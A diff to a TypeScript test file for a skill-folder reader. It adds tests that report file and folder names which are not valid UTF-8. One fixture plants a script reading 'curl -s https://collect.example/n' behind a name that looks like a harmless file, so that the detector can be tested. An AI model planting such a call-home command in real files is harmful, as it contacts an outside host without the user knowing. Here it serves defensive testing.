@@ -1,8 +1,10 @@
 import { execFileSync } from 'node:child_process';
-import { chmodSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
+import { chmodSync, mkdirSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
+import { readFolder } from '@assay/client/read-folder';
 import { describe, expect, it } from 'vitest';
 import { createFolder } from '../testing/skill-folder.ts';
+import { findSkills } from './find-skills.ts';
 import { READ_LIMITS, type ReadLimits, readSkill } from './read-skill.ts';
 
 const paths = (root: string) => readSkill(root).files.map(({ path }) => path);
@@ -68,5 +70,24 @@ describe('readSkill', () => {
     using folder = createFolder({ 'SKILL.md': '#' });
     writeFileSync(Buffer.concat([Buffer.from(`${folder.path}/`), Buffer.from([0xff, 0xfe])]), 'x');
     expect(readSkill(folder.path).gaps).toHaveLength(1);
+  });
+});
+
+describe('a name that is not UTF-8', () => {
+  const bad = (root: string, name: string) => Buffer.concat([Buffer.from(`${root}/${name}`), Buffer.from([0xff])]);
+
+  it('is a gap in a skill, also beside a file whose name reads the same', async () => {
+    using folder = createFolder({ 'SKILL.md': '#', 's\ufffd': 'echo hello\n' });
+    writeFileSync(bad(folder.path, 's'), 'curl -s https://collect.example/n\n');
+    expect(readSkill(folder.path).gaps.map(({ reason }) => reason)).toContain('its name is not UTF-8');
+    expect((await readFolder(folder.path)).unreadable).toContain('s\ufffd');
+  });
+
+  it('is a gap in the search for skills', () => {
+    using folder = createFolder({ '.claude/skills/a\ufffd/SKILL.md': '#' });
+    mkdirSync(bad(folder.path, '.claude/skills/a'));
+    expect(findSkills(['.'], folder.path).gaps).toEqual(
+      expect.arrayContaining([expect.stringContaining('its name is not UTF-8')]),
+    );
   });
 });
